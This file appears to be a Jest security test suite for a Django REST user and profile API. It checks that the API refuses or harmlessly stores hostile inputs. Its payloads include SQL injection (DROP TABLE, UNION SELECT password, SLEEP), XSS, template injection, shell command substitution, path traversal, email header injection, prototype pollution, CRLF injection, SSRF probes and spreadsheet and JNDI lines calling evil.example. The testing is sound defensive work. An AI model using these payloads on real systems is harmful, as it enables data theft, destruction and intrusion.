import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { startApp, type TestApp } from '../support/app.js';
import { PASSWORD, type Person } from '../support/arrange.js';
import { doors, type Door } from '../support/doors.js';
import { multipart, type Answer, type Options } from '../support/http.js';
import { holdsText, named, operations, Things, type DocumentedOperation } from '../support/operations.js';

jest.setTimeout(60_000);

/** Milliseconds that only a database that was made to sleep takes. */
const SLEPT = 4900;

let server: TestApp;
let admin: Person;
let witness: Person;
/** Whose things may be changed. */
let owner: Person;
let things: Things;
let before: unknown;

beforeAll(async () => {
  // With JWTs, since dj-rest-auth has some of its routes only then.
  server = await startApp({ mailbox: true, settings: { REST_AUTH_MODE: 'jwt' } });
  admin = await server.arrange.admin();
  witness = await server.arrange.person({ username: 'witness', bio: 'I saw it all.', firstName: 'Wit', lastName: 'Ness' });
  owner = await server.arrange.person();
  things = await Things.of(server, owner);
  before = await rows();
});
afterEach(async () => {
  expect(await rows()).toEqual(before);
  expect(server.log()).not.toMatch(/"level":"(error|fatal)"/);
});
afterAll(() => server.stop());

/** The two who must not notice anything. */
const rows = (): Promise<unknown> => server.arrange.sql('SELECT * FROM users WHERE id IN (?, ?) ORDER BY id', [admin.id, witness.id]);
const count = async (table: string): Promise<number> =>
  Number((await server.arrange.sql<{ n: number | string }[]>(`SELECT COUNT(*) AS n FROM ${table}`))[0]?.n);

const send = ({ method, path }: DocumentedOperation, body: object | string, options: Options = {}): Promise<Answer> =>
  server.http.send(method, things.address(path), typeof body === 'string' ? body : JSON.stringify(body), {
    access: admin.access,
    ...options,
    headers: { 'Content-Type': 'application/json', ...options.headers },
  });

const withTexts = operations.filter(({ fields }) => Object.values(fields).some(holdsText));
const textsOf = ({ fields }: DocumentedOperation): string[] => Object.keys(fields).filter((name) => holdsText(fields[name] ?? {}));
/** A body with the same in every field that holds text. */
const filledWith = (operation: DocumentedOperation, value: string): string =>
  `{${textsOf(operation).map((field) => `${JSON.stringify(field)}:${value}`).join(',')}}`; // prettier-ignore

it('knows the routes of the document', () => {
  expect(withTexts.length).toBeGreaterThan(25);
});

describe('a value that is no text', () => {
  const NO_TEXTS = ['true', '[]', '[""]', '["admin"]', '{}', '{"$ne":null}', '{"password":1}', '{"_type":"not"}', '1e400', '[[0]]'];

  it.each(named(withTexts))('is refused in every field: %s', async (_name, operation) => {
    for (const value of NO_TEXTS) {
      const answer = await send(operation, filledWith(operation, value));

      expect(answer.status).toBe(400);
      // What holds no text was not sent, and may be asked for.
      const refused = Object.keys(answer.body as object).filter((name) => name !== 'ids');
      expect(refused.sort()).toEqual(textsOf(operation).sort());
    }
  });

  it.each(named(withTexts))('names nobody, and is worth no token, as a number: %s', async (_name, operation) => {
    const [people, sessions] = [await count('users'), await count('sessions')];

    for (const value of ['0', '1', '-1', '0.0']) {
      // Somebody without an account asks, so that nothing is their own.
      const { status } = await send(operation, filledWith(operation, value), { access: undefined, headers: {} });
      expect([200, 400, 401, 404]).toContain(status);
    }

    expect([await count('users'), await count('sessions')]).toEqual([people, sessions]);
  });

  it.each(Object.entries<Door>(doors))('opens no account by being a name: %s', async (_name, { path }) => {
    for (const value of [0, 1, true, [], ['witness'], {}, { $ne: null }, { password: 1 }])
      for (const body of [{ username: value }, { email: value }, { username: value, email: value }])
        for (const password of [PASSWORD, value])
          expect([400, 401]).toContain((await server.http.post(path, { ...body, password })).status);
  });
});

describe('a list', () => {
  const lists = operations.filter(({ method, query }) => method === 'GET' && query.includes('page')).map(({ path }) => path);
  const get = (path: string): Promise<Answer> => server.http.get(things.address(path), { access: admin.access });
  /** What is on the first page, without the links, which repeat the query. */
  async function firstPage(path: string, query = ''): Promise<unknown> {
    const answer = await get(`${path}?page=1${query}`);
    const { count: total, results } = answer.body as { count: number; results: unknown };
    return { status: answer.status, total, results };
  }

  it('is one of these', () => {
    expect(lists).toEqual(expect.arrayContaining(['/api/users/', '/api/profiles/', '/api/profile-status/', '/api/audit/']));
  });

  it.each(lists)('is not ordered by what is written for a database: %s', async (path) => {
    const plain = await firstPage(path);

    for (const ordering of [
      '(SELECT SLEEP(2))',
      'id,(SELECT SLEEP(2))',
      '-id;--',
      'id; DROP TABLE users',
      'RAND()',
      'password',
      'u.password',
      '__proto__',
      'constructor',
      '1',
      '`id`',
      Array.from({ length: 1000 }, (_, n) => `f${n}`).join(','),
    ]) {
      const start = performance.now();
      const { status } = await get(`${path}?page=1&ordering=${encodeURIComponent(ordering)}`);

      expect(status).toBe(200);
      expect(performance.now() - start).toBeLessThan(SLEPT);
    }
    expect(await firstPage(path)).toEqual(plain);
  });

  it.each(lists)('knows no filter but its own: %s', async (path) => {
    const plain = await firstPage(path);

    for (const query of [
      'username__regex=.*',
      'role__in=admin',
      'id__gt=1',
      '_connector=OR',
      'password__startswith=$argon2',
      'username[$ne]=x',
    ])
      expect(await firstPage(path, `&${query}`)).toEqual(plain);
  });

  it.each(lists)('is never whole because of its size: %s', async (path) => {
    for (const query of [
      'page_size=-1',
      'page_size=0',
      'page_size=1e9',
      'page_size=abc',
      'limit=-1',
      'limit=1e9',
      'limit=abc',
      'offset=-1',
    ]) {
      const answer = await get(`${path}?${query}`);

      expect(answer.status).toBe(200);
      expect((answer.body as { results: unknown[] }).results.length).toBeLessThanOrEqual(100);
    }
    for (const page of ['-1', '0', '1e9', '1.5', 'NaN', '0x1', "1'"]) expect((await get(`${path}?page=${page}`)).status).toBe(404);
    for (const cursor of ['x', 'WzFd', '%00']) expect((await get(`${path}?cursor=${cursor}`)).status).toBe(400);
    const forged = Buffer.from('[1,["1 OR 1=1"],null,"forged"]').toString('base64url');
    expect(await firstPage(path, `&cursor=${forged}`)).toEqual(await firstPage(path));
  });

  it.each(lists)('is searched and filtered to the letter: %s', async (path) => {
    const { query = [] } = operations.find((one) => one.path === path && one.method === 'GET') ?? {};
    const filters = query.filter((name) => !['page', 'page_size', 'cursor', 'limit', 'offset', 'ordering'].includes(name));

    for (const filter of filters)
      for (const text of ["' OR '1'='1", '%', '_', '\\', "' OR SLEEP(5)--", '1 OR 1=1', "x' UNION SELECT password FROM users--"]) {
        const start = performance.now();
        const answer = await get(`${path}?page=1&${filter}=${encodeURIComponent(text)}`);

        expect([200, 400]).toContain(answer.status);
        if (answer.status === 200 && filter === 'search') expect((answer.body as { count: number }).count).toBe(0);
        expect(performance.now() - start).toBeLessThan(SLEPT);
      }
  });
});

describe('text that is written for something else', () => {
  const TEXTS = [
    "'; DROP TABLE users; --",
    `x' || (SELECT password FROM users LIMIT 1) || '`,
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    '{{7*7}}${7*7}<%= 7*7 %>#{7*7}%{7*7}',
    '=HYPERLINK("http://evil.example","x")',
    'a\r\nBcc: evil@example.com\r\n\r\nb',
    '\u001b[31mred\u001b[0m\u2028{"level":"fatal"}',
    '$(id) `id` ; id | id',
    '%s%n%d {0} ${jndi:ldap://evil.example/a}',
  ];

  it.each(TEXTS)('is kept, found and shown to the letter: %j', async (text) => {
    const author = await server.arrange.person({ firstName: text, lastName: text, bio: text });
    const status = await server.http.post('/api/profile-status/', { status_content: text }, { token: author.token });
    const { id } = status.body as { id: number };
    const read = async (path: string): Promise<unknown> => (await server.http.get(path, { access: admin.access })).body;

    expect(status.body).toMatchObject({ status_content: text });
    expect(await read(`/api/profile-status/${id}/`)).toMatchObject({ status_content: text });
    expect(await read(`/api/profiles/${author.id}/`)).toMatchObject({ bio: text });
    expect(await read(`/api/users/${author.id}/`)).toMatchObject({ first_name: text, last_name: text, bio: text });
    // A quote in a search would begin a phrase, as in djangorestframework.
    const term = encodeURIComponent((text.split(/[\s,"']+/).find((word) => word.length > 3) ?? '').slice(0, 200));
    expect(await read(`/api/profile-status/?search=${term}`)).toContainEqual(expect.objectContaining({ id }));
    expect(await read(`/api/users/?search=${term}`)).toContainEqual(expect.objectContaining({ id: author.id }));

    await server.http.post('/api/rest-auth/password/reset/', { email: author.email });
    const mail = await server.mails.next({ to: author.email });
    expect(`${mail.subject} ${mail.text} ${mail.html}`).not.toMatch(/\b49\b|evil|script/);
    expect(mail.recipients).toEqual([author.email]);
    expect(server.log()).not.toContain('evil');
    const trail = await server.http.get(`/api/audit/export.csv?subject=${author.id}`, { access: admin.access });
    expect([trail.status, trail.text.includes('evil'), trail.text.includes('<script>')]).toEqual([200, false, false]);
  });

  it('is no path, no header and no cookie', async () => {
    const [people, sessions] = [await count('users'), await count('sessions')];

    for (const text of ["' OR '1'='1", "'; DROP TABLE users; --", "1' OR SLEEP(5)--", '../../etc/passwd', '$(id)', '{"$ne":1}']) {
      const start = performance.now();
      for (const collection of ['users', 'profiles', 'profile-status'])
        expect((await server.http.get(`/api/${collection}/${encodeURIComponent(text)}/`, { access: admin.access })).status).toBe(404);
      for (const name of ['User-Agent', 'Referer', 'Accept-Language', 'X-Forwarded-For', 'Idempotency-Key', 'If-None-Match', 'Range'])
        expect((await server.http.get('/api/users/me/', { access: witness.access, headers: { [name]: text } })).status).toBe(200);
      for (const name of ['sessionid', 'csrftoken', 'auth', 'refresh', 'device'])
        expect((await server.http.get('/api/users/me/', { headers: { Cookie: `${name}=${encodeURIComponent(text)}` } })).status).toBe(401);
      expect(performance.now() - start).toBeLessThan(SLEPT);
    }

    expect([await count('users'), await count('sessions')]).toEqual([people, sessions]);
  });
});

describe('a key that means something to JavaScript', () => {
  const PATHS = ['__proto__', 'constructor', 'prototype', '__proto__[polluted]', 'constructor[prototype][polluted]', '__proto__.polluted'];

  it.each(named(withTexts))('means nothing in any body: %s', async (_name, operation) => {
    const bad = PATHS.map((key) => [key, 'yes'] as const);
    const json = `{${bad.map(([key]) => `"${key}":{"polluted":"yes","prototype":{"polluted":"yes"}}`).join(',')}}`;
    const form = multipart(Object.fromEntries(bad));
    const options = { access: owner.access };

    const answers = [
      await send(operation, json, options),
      await server.http.form(operation.method, things.address(operation.path), Object.fromEntries(bad), options),
      await server.http.send(operation.method, things.address(operation.path), form.body, { ...options, headers: form.headers }),
      await server.http.send(operation.method, `${things.address(operation.path)}?${bad.map((pair) => pair.join('=')).join('&')}`, '{}', {
        ...options,
        headers: { 'Content-Type': 'application/json' },
      }),
    ];

    for (const { status } of answers) expect(status).toBeLessThan(500);
    expect(({} as { polluted?: string }).polluted).toBeUndefined();
    expect(([] as { polluted?: string }[] & { polluted?: string }).polluted).toBeUndefined();
    expect((await server.http.get('/api/users/me/', { access: admin.access })).body).not.toHaveProperty('polluted');
  });
});

describe('a line break', () => {
  const reads = operations.filter(({ method }) => method === 'GET');

  it.each(named(reads))('begins no header of an answer: %s', async (_name, { path, query }) => {
    for (const name of [...query, 'format', 'next'])
      for (const broken of ['%0d%0aX-Injected:%20yes', '%0aX-Injected:%20yes', '%E5%98%8A%E5%98%8DX-Injected:%20yes']) {
        const { status, headers } = await server.http.get(`${things.address(path)}?${name}=1${broken}`, { access: admin.access });

        expect(status).toBeLessThan(500);
        expect(headers['x-injected']).toBeUndefined();
      }
  });

  it('begins no header where a list is linked to what follows', async () => {
    const values = Array.from({ length: 1001 }, () => `(${witness.id}, 'x', '2026-11-21 04:15:15.463', '2026-11-21 04:15:15.463')`);
    await server.arrange.sql(`INSERT INTO profile_statuses (user_id, status_content, created_at, updated_at) VALUES ${values.join(', ')}`);

    const { status, headers } = await server.http.get('/api/profile-status/?x=%0d%0aX-Injected:%20yes');
    await server.arrange.sql("DELETE FROM profile_statuses WHERE status_content = 'x'");

    expect([status, headers['x-injected']]).toEqual([200, undefined]);
    expect(headers.link).toMatch(/^<http:\/\/[^>]+>; rel="next"$/);
  });
});

describe('an address of another server', () => {
  let elsewhere: Server;
  let visits = 0;
  let url: string;

  beforeAll(async () => {
    elsewhere = createServer((_request, response) => {
      visits++;
      response.end();
    }).listen(0, '127.0.0.1');
    await once(elsewhere, 'listening');
    url = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/canary`;
  });
  afterAll(() => elsewhere.close());

  it.each(named(operations))('is never visited, whatever holds it: %s', async (_name, operation) => {
    const { method, path, query } = operation;
    const search = query.map((name) => `${name}=${encodeURIComponent(url)}`).join('&');
    const options = {
      access: owner.access,
      headers: { Referer: url, Origin: url, 'X-Forwarded-Host': new URL(url).host, 'X-Original-URL': url, Forwarded: `host=${url}` },
    };

    if (textsOf(operation).length > 0) await send(operation, filledWith(operation, JSON.stringify(url)), options);
    if (method === 'GET') await server.http.get(`${things.address(path)}?${search}`, options);

    expect(visits).toBe(0);
  });
});
